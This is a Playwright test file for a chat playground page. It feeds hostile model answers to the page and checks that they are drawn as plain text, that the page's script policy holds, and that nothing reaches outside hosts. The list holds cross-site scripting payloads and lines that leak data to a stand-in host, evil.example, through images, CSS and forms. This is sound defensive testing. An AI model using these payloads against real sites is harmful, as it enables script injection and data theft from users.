// What a model says must run no script in the page and reach no other host: hostile answers go through the page's own reading
// and drawing, and then the page's policy is tried on its own, as if the drawing had failed. test/playground.test.ts runs these.
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import type { Playground } from '../../page.ts';
import { desktop } from '../../page.ts';

const RUN = 'window.attacked=1';
const hostile = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `<svg onload="${RUN}"><a href="javascript:${RUN}">x</a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `[a link](javascript:${RUN}) [another](JaVaScRiPt:${RUN}) [third](java&#115;cript:${RUN}) [tab](<java\tscript:${RUN}>)`,
  `[data](data:text/html,<script>${RUN}</script>) [vb](vbscript:x) <javascript:${RUN}>`,
  `![a picture](https://evil.example/pixel.png?what=was-said) ![x](javascript:${RUN})`,
  `[title](https://example.com "x\\" onmouseover=\\"${RUN}")`,
  `[reference][1]\n\n[1]: javascript:${RUN}`,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <b onclick=${RUN}>x</b> |`,
  `\`\`\`html"onload="${RUN}\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `- [ ] <input autofocus onfocus=${RUN}>`,
  `<style>*{background:url(https://evil.example/css)}</style>`,
  `<form action="https://evil.example"><button>x</button></form><base href="https://evil.example/">`,
].join('\n\n');

export function hostileTests(opened: () => Playground): void {
  /** The page with the real server's files and policy, and a model of the attacker's. */
  async function openAttacked(): Promise<{ page: Page; asked: string[]; outside: string[] }> {
    const page = await opened().browser.newPage(desktop);
    page.setDefaultTimeout(30_000);
    const asked: string[] = [];
    const outside: string[] = [];
    // What the policy blocks never comes here.
    await page.route(/^https:/, (route) => {
      outside.push(route.request().url());
      return route.abort();
    });
    const id = `<img src=x onerror=${RUN}>`;
    await page.route('**/v1/models', (route) =>
      route.fulfill({ json: { data: [{ id, loaded: true, chats: true, context_length: 512 }] } }),
    );
    await page.route('**/v1/chat/completions', (route) => {
      asked.push(route.request().postData() ?? '');
      const others = [{ token: hostile, logprob: -1 }];
      const deltas = [
        { reasoning_content: hostile },
        ...Array.from(hostile.matchAll(/[^]{1,40}/g), ([content]) => ({ content })),
        { tool_calls: [{ index: 0, id: 'a', function: { name: hostile, arguments: '{"a":' } }] },
        { tool_calls: [{ index: 0, function: { arguments: JSON.stringify(hostile).concat('}') } }] },
      ];
      const chunks = deltas.map((delta) => ({
        choices: [{ delta, logprobs: { content: [{ token: hostile, logprob: -1, top_logprobs: others }] } }],
      }));
      const events = [...chunks.map((chunk) => JSON.stringify(chunk)), '[DONE]'].map((data) => `data: ${data}\n\n`);
      return route.fulfill({ contentType: 'text/event-stream', body: events.join('') });
    });
    await page.goto(opened().server.url);
    await page.getByText('is ready.').waitFor();
    return { page, asked, outside };
  }

  const isAttacked = (page: Page) => page.evaluate(() => 'attacked' in window);

  it('draws hostile answers as harmless text', async () => {
    const { page, asked, outside } = await openAttacked();
    const schema = { type: 'object', properties: { a: { type: 'string' } } };
    await page.getByLabel('JSON schema').fill(JSON.stringify(schema));
    await page.getByRole('textbox', { name: 'Your message' }).fill(hostile);
    await page.getByRole('textbox', { name: 'Your message' }).press('Enter');
    await page.getByText(/^Done/).waitFor();
    expect(JSON.parse(asked[0] ?? '')).toMatchObject({
      messages: [{ role: 'user', content: hostile }],
      response_format: { type: 'json_schema', json_schema: { schema } },
    });
    const log = page.getByRole('log');
    expect(await log.locator('.markdown').textContent()).toContain(`<img src=x onerror="${RUN}">`);
    expect(await log.locator('img, script, svg, iframe, object, style, base, input, b').count()).toBe(0);
    const addresses = await page
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(addresses).toContain('https://example.com');
    for (const address of addresses) expect(address).toMatch(/^(https?:|mailto:|#content)/);
    const handlers = await page.evaluate(() =>
      Array.from(document.querySelectorAll('*')).flatMap(({ attributes }) =>
        Array.from(attributes, ({ name }) => name).filter((name) => name.startsWith('on')),
      ),
    );
    expect(handlers).toEqual([]);
    // Reasoning, calls and tokens are drawn too.
    await page.getByText('Reasoning', { exact: true }).click();
    expect(await log.locator('.reasoning').textContent()).toContain('<script>');
    expect(await log.locator('.call pre').textContent()).toContain('onerror');
    await page.getByLabel('Show tokens').check();
    await log.getByRole('option').first().hover();
    // The call's result goes back with the call's id.
    await page.getByLabel(/^Result of/).fill('42');
    await page.getByRole('button', { name: 'Send results' }).click();
    await expect.poll(() => asked.length).toBe(2);
    expect(JSON.parse(asked[1] ?? '')).toMatchObject({
      messages: [
        { role: 'user' },
        { role: 'assistant', tool_calls: [{ id: 'a' }] },
        { role: 'tool', content: '42', tool_call_id: 'a' },
      ],
    });
    await page.getByText(/^Done/).waitFor();
    expect(await isAttacked(page)).toBe(false);
    expect(outside).toEqual([]);
    await page.close();
  });

  it('runs no script by its policy, even where HTML got into the page', async () => {
    const { page, outside } = await openAttacked();
    await page.evaluate(
      ({ html, script }) => {
        const seen: string[] = [];
        Object.assign(window, { seen });
        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
        const place = document.createElement('div');
        document.body.append(place);
        place.innerHTML = html;
        const inline = document.createElement('script');
        inline.textContent = script;
        place.append(inline);
        const foreign = document.createElement('script');
        foreign.src = 'https://evil.example/script.js';
        place.append(foreign);
        for (const link of place.querySelectorAll('a')) if (/script:/i.test(link.href)) link.click();
      },
      {
        html: `<img src="https://evil.example/pixel.png" onerror="${RUN}"><svg onload="${RUN}"></svg><a href="javascript:${RUN}">x</a>${hostile}`,
        script: RUN,
      },
    );
    const seen = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    await expect
      .poll(seen)
      .toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem', 'img-src', 'style-src-elem']));
    expect(await isAttacked(page)).toBe(false);
    expect(outside).toEqual([]);
    await page.close();
  });

  it('says what the server refuses, as text', async () => {
    const { page } = await openAttacked();
    await page.route('**/v1/chat/completions', (route) =>
      route.fulfill({ status: 400, json: { error: { message: hostile } } }),
    );
    await page.getByRole('textbox', { name: 'Your message' }).fill('x');
    await page.keyboard.press('Enter');
    await page.getByRole('status').getByText('<script>').waitFor();
    await page.getByLabel('JSON schema').fill('{"type":');
    await page.getByRole('textbox', { name: 'Your message' }).fill('y');
    await page.keyboard.press('Enter');
    await page.getByRole('status').getByText('JSON schema: this is not JSON').waitFor();
    expect(await isAttacked(page)).toBe(false);
    await page.close();
  });
}
